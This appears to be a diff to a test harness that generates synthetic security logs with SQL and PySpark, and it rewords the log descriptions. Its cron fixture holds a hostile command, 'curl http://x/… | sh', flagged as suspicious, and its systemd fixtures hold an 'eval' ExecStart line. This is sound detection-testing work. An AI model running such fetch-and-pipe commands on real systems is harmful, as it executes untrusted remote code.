@@ -87,11 +87,11 @@ AUTH_SQL = f"""SELECT event_id * 1000 AS raw_line_offset, {_UTC} AS timestamp_ut
       WHEN 'view' THEN 'session_closed' WHEN 'signup' THEN 'account_created' ELSE 'group_membership_added' END AS subcategory,
     CASE WHEN event_type IN ('error', 'click') THEN {IP} END AS source_ip,
     CASE WHEN event_type = 'signup' THEN user_id END AS actor_uid,
-    CASE event_type WHEN 'error' THEN 'Failed password for ' || {USER} || ' from ' || {IP}
-      WHEN 'click' THEN 'Successful password login for ' || {USER} || ' from ' || {IP}
-      WHEN 'view' THEN 'Session closed for user ' || {USER}
-      WHEN 'signup' THEN 'New account created: ' || {USER} || ' (uid=' || CAST(user_id AS VARCHAR) || ', home=/home/' ||
-        {USER} || ', shell=/bin/sh)' ELSE 'User ' || {USER} || ' was added to group sudo' END AS description,
+    CASE event_type WHEN 'error' THEN 'Wrong password for ' || {USER} || ', coming from ' || {IP}
+      WHEN 'click' THEN {USER} || ' logged in by password, coming from ' || {IP}
+      WHEN 'view' THEN 'A session of ' || {USER} || ' ended'
+      WHEN 'signup' THEN 'Account ' || {USER} || ' made (uid=' || CAST(user_id AS VARCHAR) || ', home=/home/' ||
+        {USER} || ', shell=/bin/sh)' ELSE {USER} || ' joined group sudo' END AS description,
     CASE WHEN event_type IN ('error', 'click') THEN user_id % 25 = 3 ELSE user_id = 7 END
       AND {_UTC} BETWEEN TIMESTAMP '2024-01-09 23:55:00' AND TIMESTAMP '2024-01-12 00:05:00' AS tool_generated_flag
 FROM events"""
@@ -127,11 +127,11 @@ def _contamination(spark, sf_dir):
 
 
 @query("xtr_3_cron_log", f"""SELECT event_id * 1000 AS raw_line_offset, 'cron_command' AS subcategory, {USER} AS actor_user,
-    'Cron ran a command as ' || {USER} || ': ' || CASE WHEN event_type = 'error' THEN 'curl http://x/' || {USER} || ' | sh'
+    'cron, as ' || {USER} || ', ran: ' || CASE WHEN event_type = 'error' THEN 'curl http://x/' || {USER} || ' | sh'
       ELSE '/usr/bin/run ' || event_type END AS description, 'info' AS severity FROM events
 UNION ALL SELECT event_id * 1000 + 36 + length({USER}), 'suspicious_cron_command', {USER},
     'Suspicious command executed by cron as ' || {USER} || ': curl http://x/' || {USER} ||
-    ' | sh -- pipes downloaded content straight into a shell', 'high' FROM events WHERE event_type = 'error'""")
+    ' | sh -- feeds a download to a shell', 'high' FROM events WHERE event_type = 'error'""")
 def _cron_log(spark, sf_dir):
     command = F.when(F.col("event_type") == "error", _text("curl http://x/", F.col("u"), " | sh")).otherwise(
         _text("/usr/bin/run ", F.col("event_type")))
@@ -164,7 +164,7 @@ def _journal_entries(spark, sf_dir):
 
 @query("xtr_4_journal", f"""SELECT event_id * 1000 AS raw_line_offset, ts AS timestamp_utc,
     CASE WHEN event_type = 'error' THEN 'failed_login' ELSE 'journal_message' END AS subcategory,
-    CASE WHEN event_type = 'error' THEN 'Failed password for ' || {USER} || ' from ' || {IP}
+    CASE WHEN event_type = 'error' THEN 'Wrong password for ' || {USER} || ', coming from ' || {IP}
       ELSE 'did ' || event_type END AS description FROM events WHERE event_id % 10 <> 0
 UNION ALL SELECT event_id * 1000, ts, 'journal_sequence_gap', printf(
     'Journal sequence gap detected: expected seq %d, got %d (1 missing records)', event_id - 1, event_id)
@@ -362,10 +362,10 @@ def apt_lines(spark, sf_dir) -> DataFrame:
     CASE WHEN event_type = 'view' THEN 0 ELSE user_id END AS uid FROM events)
 SELECT event_id * 5000 AS raw_line_offset, 'apt_transaction' AS subcategory, who AS actor_user, uid AS actor_uid, 'medium' AS severity,
     'apt transaction by ' || who || ': apt do ' || event_type ||
-    ' [install 2] (no End-Date: transaction did not complete or the log is truncated)' AS description FROM b
+    ' [install 2] (its end is not in the log)' AS description FROM b
 UNION ALL SELECT event_id * 5000 + 3000, 'package_install', who, uid, 'medium', 'Package nmap:amd64 installed by apt (version 7.9)' FROM b
 UNION ALL SELECT event_id * 5000 + 3000, 'package_install', who, uid, 'info', 'Package lib' || event_type ||
-    ':amd64 installed by apt (version 1.0) (pulled in automatically as a dependency)' FROM b""")
+    ':amd64 installed by apt (version 1.0) (as a dependency)' FROM b""")
 def _apt(spark, sf_dir):
     out = REGISTRY["apt_parser"].extract(apt_lines(spark, sf_dir), hosts_of(spark, sf_dir))
     return out.select("raw_line_offset", "subcategory", "actor_user", "actor_uid", "severity", "description")
@@ -565,7 +565,7 @@ _config("xtr_19_crontabs", "cron_parser", "etc/crontab",
     'systemd service unit etc/systemd/system/' || {_N} || '.service runs as ' || {_N} || ': User=' || {_N} || ' ExecStart=' ||
     CASE WHEN c_custkey % 2 = 0 THEN '/bin/true' ELSE 'eval x' END || ' (file mtime 2024-02-01T00:00:00+00:00)' AS description FROM customer
 UNION ALL SELECT {_N} || '.service', 'suspicious_systemd_unit', {_N}, 'Suspicious ExecStart in service unit etc/systemd/system/' || {_N} ||
-    '.service (runs as ' || {_N} || '): eval x -- uses eval, which executes constructed or decoded strings (file mtime 2024-02-01T00:00:00+00:00)'
+    '.service (runs as ' || {_N} || '): eval x -- evaluates a built string (file mtime 2024-02-01T00:00:00+00:00)'
 FROM customer WHERE c_custkey % 2 = 1""")
 def _units(spark, sf_dir):
     parts = F.array(F.lit("[Service]"), _text("ExecStart=", F.when(_k() % 2 == 0, "/bin/true").otherwise("eval x")),
